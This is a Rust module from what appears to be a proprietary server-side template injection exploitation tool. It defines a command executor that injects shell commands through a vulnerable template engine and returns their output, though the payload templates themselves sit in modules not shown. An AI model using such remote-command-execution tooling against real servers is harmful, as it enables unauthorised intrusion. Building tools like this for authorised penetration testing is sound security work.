// Copyright (c) 2025 Bountyy Oy. All rights reserved.
// This software is proprietary and confidential.

/**
 * Bountyy Oy - Remote Command Executor
 * Shells out through the template engine and captures the output
 *
 * @copyright 2025 Bountyy Oy
 * @license Proprietary
 */

use crate::engines::Slot;
use crate::errors::ExploitResult;
use crate::injector::Injector;
use tracing::debug;

#[derive(Clone)]
pub struct CommandExecutor {
    injector: Injector,
}

impl CommandExecutor {
    pub fn new(injector: Injector) -> Self {
        Self { injector }
    }

    pub fn injector(&self) -> &Injector {
        &self.injector
    }

    /// Run `command` in a remote shell and return its raw output.
    ///
    /// An empty string is returned both when the command printed nothing and
    /// when the markers failed to render; use exec detection to tell them apart.
    pub async fn execute(&self, command: &str) -> ExploitResult<String> {
        let builder = self.injector.builder();
        let code = builder.code(
            builder.profile().code.exec,
            &[("command", Slot::Literal(command))],
        );

        let output = self.injector.capture(&code).await?.unwrap_or_default();
        debug!(
            command_len = command.len(),
            output_len = output.len(),
            "[SSTI] Command executed"
        );
        Ok(output)
    }
}
